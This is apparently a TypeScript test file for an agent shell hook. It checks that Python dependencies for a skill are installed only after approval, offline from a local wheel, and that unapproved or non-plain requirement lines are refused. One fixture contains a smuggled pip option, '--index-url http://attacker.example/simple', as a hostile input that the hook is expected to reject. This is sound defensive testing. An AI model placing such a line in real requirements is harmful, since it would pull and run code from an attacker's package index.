import { chmodSync, mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { AIMessage, HumanMessage, ToolMessage } from "@langchain/core/messages";
import { fakeModel } from "@langchain/core/testing";
import { Command } from "@langchain/langgraph";
import { describe, expect, it } from "vitest";
import type { SkillMetadata } from "@skillgraph/core";
import { buildTinyWheel } from "../__fixtures__/tiny-wheel.js";
import { toolLoopGraph } from "../__fixtures__/tool-loop-graph.js";
import { createShellHook } from "../hook/create-shell-hook.js";

// A skill whose script needs a Python package gets its own environment: installed after approval, offline from a
// wheel built here, reused on the next run, never inside the (read-only) skill folder.

function fixture(requirements: string) {
  const root = mkdtempSync(path.join(os.tmpdir(), "skill-env-"));
  const wheels = path.join(root, "wheels");
  mkdirSync(wheels);
  buildTinyWheel(wheels);
  const skillDir = path.join(root, "skills", "greeter");
  mkdirSync(path.join(skillDir, "scripts"), { recursive: true });
  writeFileSync(path.join(skillDir, "SKILL.md"), "---\nname: greeter\ndescription: Greets with tinygreet.\n---\n");
  writeFileSync(path.join(skillDir, "requirements.txt"), requirements);
  writeFileSync(
    path.join(skillDir, "scripts", "greet.py"),
    "#!/usr/bin/env python3\nimport sys, tinygreet\nprint(tinygreet.greet(), sys.prefix)\n",
  );
  chmodSync(path.join(skillDir, "scripts", "greet.py"), 0o755);
  const skill: SkillMetadata = {
    name: "greeter",
    description: "d",
    allowedTools: [],
    extra: {},
    dir: skillDir,
    file: path.join(skillDir, "SKILL.md"),
    origin: { sourceId: "code:test", layer: "explicit", kind: "code" },
    hash: "0",
    diagnostics: [],
  };
  return { root, wheels, skillDir, catalog: { get: (name: string) => (name === "greeter" ? skill : undefined) } };
}

function graphFor(hook: ReturnType<typeof createShellHook>, calls: number) {
  let model = fakeModel();
  for (let index = 0; index < calls; index += 1)
    model = model
      .respondWithTools([
        { name: "run_skill_script", args: { skill: "greeter", command: "scripts/greet.py" }, id: `call-${index}` },
      ])
      .respond(new AIMessage("done"));
  return toolLoopGraph(hook.tools, model);
}

const lastResult = (messages: unknown[]) =>
  JSON.parse(String((messages.filter((message) => ToolMessage.isInstance(message)).at(-1) as ToolMessage).content));

describe.each(["bubblewrap", "local"] as const)("per-skill environments (%s)", (executor) => {
  it("asks before installing, installs offline from a local wheel, then reuses the environment", async () => {
    const { root, wheels, catalog } = fixture("tinygreet==1.0\n");
    const hook = createShellHook({
      skills: catalog,
      executor,
      loadedSkills: () => ["greeter"],
      workspaceRoot: path.join(root, "ws"),
      skillEnvironments: { root: path.join(root, "envs"), pipArgs: ["--no-index", "--find-links", wheels] },
    });
    const graph = graphFor(hook, 2);
    const config = { configurable: { thread_id: "t" } };
    await graph.invoke({ messages: [new HumanMessage("greet")] }, config);
    const pending = (await graph.getState(config)).tasks.flatMap((task) => task.interrupts);
    expect(pending).toHaveLength(1);
    expect(pending[0]?.value).toMatchObject({
      type: "skillgraph/shell-approval",
      skill: "greeter",
      argv: ["pip", "install", "tinygreet==1.0"],
    });
    const first = await graph.invoke(new Command({ resume: { approved: true } }), config);
    const result = lastResult(first.messages);
    expect(result).toMatchObject({ status: "ok" });
    expect(result.stdout).toContain("hello from tinygreet");
    expect(result.stdout).toContain(executor === "bubblewrap" ? "/env" : path.join(root, "envs"));
    // the second run in a new thread uses the installed environment without asking again
    const second = await graph.invoke(
      { messages: [new HumanMessage("greet again")] },
      { configurable: { thread_id: "t2" } },
    );
    expect(lastResult(second.messages)).toMatchObject({
      status: "ok",
      stdout: expect.stringContaining("hello from tinygreet"),
    });
    await hook.dispose();
  });

  it("installs nothing when the approval is refused, and refuses requirement lines that are not plain packages", async () => {
    const denied = fixture("tinygreet==1.0\n");
    const hook = createShellHook({
      skills: denied.catalog,
      executor,
      loadedSkills: () => ["greeter"],
      workspaceRoot: path.join(denied.root, "ws"),
      skillEnvironments: { root: path.join(denied.root, "envs") },
    });
    const graph = graphFor(hook, 1);
    const config = { configurable: { thread_id: "t" } };
    await graph.invoke({ messages: [new HumanMessage("greet")] }, config);
    const refused = await graph.invoke(new Command({ resume: { approved: false } }), config);
    expect(lastResult(refused.messages)).toMatchObject({ status: "refused", reason: "approval-denied" });

    const hostile = fixture("tinygreet==1.0\n--index-url http://attacker.example/simple\n");
    const strictHook = createShellHook({
      skills: hostile.catalog,
      executor,
      loadedSkills: () => ["greeter"],
      workspaceRoot: path.join(hostile.root, "ws"),
      skillEnvironments: { root: path.join(hostile.root, "envs"), approve: "always" },
    });
    const result = lastResult(
      (
        await graphFor(strictHook, 1).invoke(
          { messages: [new HumanMessage("greet")] },
          { configurable: { thread_id: "h" } },
        )
      ).messages,
    );
    expect(result).toMatchObject({
      status: "refused",
      reason: "missing-requirements",
      message: expect.stringContaining("--index-url"),
    });
    await hook.dispose();
    await strictHook.dispose();
  });
});
